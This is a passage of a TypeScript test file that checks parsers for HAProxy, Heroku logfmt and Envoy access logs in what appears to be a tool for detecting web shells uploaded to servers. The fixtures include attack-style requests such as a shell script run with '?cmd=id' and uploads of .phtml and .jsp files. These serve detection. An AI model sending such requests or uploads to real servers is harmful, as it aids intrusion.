      timestamp: '06/Feb/2024:12:14:14.655',
      executed: { method: 'GET', status: 200, script: 's.php' },
    });
    expect(parseHaproxyLine(line('POST /upload?filename=x.phtml HTTP/1.1', '201'), uploads)).toMatchObject({
      filename: 'x.phtml',
      accepted: true,
    });
    expect(parseHaproxyLine(line('GET /uploads/a.jpg HTTP/1.1'), uploads)).toBeUndefined();
    expect(parseHaproxyLine(line('<BADREQ>', '-1'), uploads)).toBeUndefined();
    expect(parseHaproxyLine('something else', uploads)).toBe('not an HAProxy HTTP log line');
  });
});

describe('logfmt access logs (Heroku router)', () => {
  const uploads = new RegExp(DEFAULT_UPLOAD_PATH, 'i');
  const line = (method: string, path: string, status = 200) =>
    `at=info method=${method} path="${path}" host=app.herokuapp.com request_id=8601b555 fwd="203.0.113.5,10.0.0.1" dyno=web.1 connect=0ms service=5ms status=${status} bytes=120 protocol=https`;

  it('is recognized by a method, a path and a status, inside `heroku logs` lines too', () => {
    expect(detectFormat(line('GET', '/'))).toBe('logfmt');
    expect(detectFormat('level=info msg="server started" port=8080')).toBeUndefined();
  });

  it('judges the request as combined lines are', () => {
    expect(parseLogfmtLine(line('GET', '/uploads/s.php?cmd=id'), uploads)).toMatchObject({
      client: '203.0.113.5',
      executed: { method: 'GET', status: 200, script: 's.php' },
    });
    expect(parseLogfmtLine(line('POST', '/upload?filename=x.phtml', 201), uploads)).toMatchObject({
      filename: 'x.phtml',
      accepted: true,
    });
    // a quoted value with an escaped quote and spaces
    expect(
      parseLogfmtLine('method=GET path="/media/a b.jpg?c=cat \\"x\\"" status=200', uploads),
    ).toMatchObject({ executed: { script: 'a b.jpg' } });
    expect(parseLogfmtLine(line('GET', '/uploads/a.jpg'), uploads)).toBeUndefined();
    expect(parseLogfmtLine('level=info msg=started', uploads)).toBe(
      'not a logfmt line with a method, a path and a status',
    );
  });
});

describe('Envoy access logs (and Istio)', () => {
  const uploads = new RegExp(DEFAULT_UPLOAD_PATH, 'i');
  const line = (request: string, status = 200, forwarded = '203.0.113.9, 10.0.0.1') =>
    `[2026-12-07T02:00:00.310Z] "${request}" ${status} - 0 31 5 4 "${forwarded}" "curl/8.4" "cc21d9b0-cf5c" "app.example.com" "10.0.2.1:8080"`;

  it('is recognized by its first line', () => {
    expect(detectFormat(line('GET / HTTP/1.1'))).toBe('envoy');
  });

  it('judges the request as combined lines are, the client the first forwarded address', () => {
    expect(parseEnvoyLine(line('GET /uploads/s.php?cmd=id HTTP/1.1'), uploads)).toMatchObject({
      client: '203.0.113.9',
      timestamp: '2026-12-07T02:00:00.310Z',
      executed: { method: 'GET', status: 200, script: 's.php' },
    });
    expect(parseEnvoyLine(line('PUT /uploads/x.jsp HTTP/2', 201, '-'), uploads)).toMatchObject({
      client: '-',
      filename: 'x.jsp',
      accepted: true,
    });
    expect(parseEnvoyLine(line('GET /uploads/a.jpg HTTP/1.1'), uploads)).toBeUndefined();
    expect(parseEnvoyLine('something else', uploads)).toBe('not an Envoy access log line');
  });
});
